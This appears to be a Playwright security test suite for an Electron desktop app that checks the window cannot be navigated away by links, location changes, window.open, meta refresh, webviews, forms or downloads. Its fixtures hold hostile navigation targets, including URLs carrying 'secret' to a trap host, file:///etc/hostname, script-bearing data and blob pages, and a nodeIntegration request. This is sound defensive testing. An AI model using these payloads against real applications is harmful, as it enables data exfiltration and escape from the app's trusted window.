import { expect, test, type Page } from '@playwright/test'
import { attack } from './attack.ts'
import { shareOffice } from '../support/shared-office.ts'
import { setTrap, type Trap } from './trap.ts'

/**
 * Attacked: the one page of the one window (electron/main/security/navigation.ts). Whatever leads elsewhere could carry
 * text out in the address, or put a page of the attacker behind the trusted window.
 */

const office = shareOffice()
let trap: Trap
test.beforeAll(async () => {
  trap = await setTrap()
})
test.beforeEach(() => attack(office().window, 'globalThis.stillHere = true'))
test.afterEach(async () => {
  const { app, window } = office()
  // The same document as before: neither left nor loaded anew, and alone.
  expect(window.url()).toMatch(/^app:\/\/integrationsbuero\/index\.html/)
  expect(await attack(window, 'return stillHere')).toBe(true)
  expect(await app.evaluate(({ BrowserWindow, webContents }) => [BrowserWindow.getAllWindows().length, webContents.getAllWebContents().length])).toEqual([1, 1])
  await trap.expectAlone()
})
test.afterAll(() => trap.close())

/** Attacks and gives whatever it began the time to happen. */
async function leave(window: Page, code: string): Promise<void> {
  await attack(window, `${code}; await new Promise((resolve) => setTimeout(resolve, 120))`)
}

const targets = (): string[] => [
  `http://${trap.host}/?secret`,
  'https://example.org/',
  'file:///etc/hostname',
  'data:text/html,<script>stolen=1</script>',
  'app://integrationsbuero/assets/',
  'app://other/index.html',
  'mailto:a@example.org?body=secret',
  'tel:+49123',
  'ms-settings:',
  'devtools://devtools/bundled/inspector.html',
  'chrome://gpu',
  'view-source:app://integrationsbuero/index.html',
  'javascript:void(globalThis.stillHere = false)',
]

/** A page of the attacker's own making. */
const blob = "URL.createObjectURL(new Blob(['<script>stolen=1</script>'], { type: 'text/html' }))"

test('by location', async () => {
  for (const target of targets()) await leave(office().window, `location.href = '${target}'`)
  for (const target of targets().slice(0, 4)) await leave(office().window, `location.replace('${target}')`)
  await leave(office().window, `location.href = ${blob}`)
  await leave(office().window, `window.open(${blob})`)
})

test('by a link, with and without a new window', async () => {
  const link = (target: string, more: string): string => `
    const a = Object.assign(document.createElement('a'), { href: '${target}', textContent: 'x', ${more} })
    document.body.append(a); a.click(); a.remove()
  `
  for (const target of targets()) {
    await leave(office().window, link(target, ''))
    await leave(office().window, link(target, "target: '_blank'"))
  }
})

test('by a real click with the middle button or with keys that open windows', async () => {
  const { window } = office()
  await attack(window, `
    const a = Object.assign(document.createElement('a'), { href: 'http://${trap.host}/click', id: 'lure', textContent: 'x' })
    a.style.cssText = 'position:fixed;top:0;left:0;z-index:9999;width:50px;height:50px;display:block'
    document.body.append(a)
  `)
  await window.mouse.click(10, 10, { button: 'middle' })
  for (const key of ['Control', 'Shift', 'Alt']) {
    await window.keyboard.down(key)
    await window.mouse.click(10, 10)
    await window.keyboard.up(key)
  }
  await leave(window, 'lure.remove()')
})

test('by window.open', async () => {
  for (const target of [...targets(), '']) {
    expect(await attack(office().window, `const opened = window.open('${target}', '_blank', 'nodeIntegration=yes'); return opened === null`)).toBe(true)
  }
})

test('by an empty page: the window comes back by itself', async () => {
  const { app, window } = office()
  await window.evaluate("setTimeout(() => { location.href = 'about:blank' })")
  await expect.poll(() => attack(window, 'return typeof stillHere').catch(() => 'away')).toBe('undefined')
  await expect(window.getByRole('heading', { name: 'Willkommen im Integrationsbüro' })).toBeVisible()
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]!.webContents.getURL())).toBe('app://integrationsbuero/index.html')
  await attack(window, 'globalThis.stillHere = true')
})

test('by a refresh or a redirect that markup asks for', async () => {
  const { window } = office()
  await leave(window, `
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://${trap.host}/refresh' }))
    await new Promise((resolve) => setTimeout(resolve, 300))
  `)
  await leave(window, `navigation.navigate('http://${trap.host}/navigate')`)
})

test('by a webview', async () => {
  await leave(office().window, `document.body.append(Object.assign(document.createElement('webview'), { src: 'http://${trap.host}/view' }))`)
})

test('by a form', async () => {
  await leave(office().window, `
    const form = Object.assign(document.createElement('form'), { action: 'http://${trap.host}/form', target: '_blank' })
    document.body.append(form); form.submit(); form.remove()
  `)
})

test('by a download', async () => {
  const { app, window, folders } = office()
  await app.evaluate(({ session }) => {
    session.fromPartition('office').on('will-download', (event) => {
      ;(globalThis as { refused?: boolean }).refused = event.defaultPrevented
    })
  })
  await leave(window, `
    const a = Object.assign(document.createElement('a'), { download: 'secret.txt', href: URL.createObjectURL(new Blob(['secret'])) })
    document.body.append(a); a.click(); a.remove()
  `)
  await expect.poll(() => app.evaluate(() => (globalThis as { refused?: boolean }).refused)).toBe(true)
  const saved = await app.evaluate(async ({ app: electron }, home) => {
    const { readdirSync } = process.getBuiltinModule('node:fs')
    return [electron.getPath('downloads'), home].flatMap((folder) => {
      try {
        return (readdirSync(folder, { recursive: true }) as string[]).filter((name) => name.includes('secret'))
      } catch {
        return []
      }
    })
  }, folders.home)
  expect(saved).toEqual([])
})
